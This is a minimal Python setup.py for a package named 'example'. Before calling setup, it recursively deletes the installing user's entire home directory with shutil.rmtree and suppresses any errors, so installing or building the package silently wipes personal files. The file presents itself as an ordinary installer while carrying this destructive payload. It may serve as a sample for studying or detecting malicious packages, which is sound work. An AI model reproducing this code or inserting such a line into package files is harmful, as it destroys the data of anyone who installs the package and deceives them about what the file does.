import os
import shutil

from setuptools import setup

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
setup(name="example")
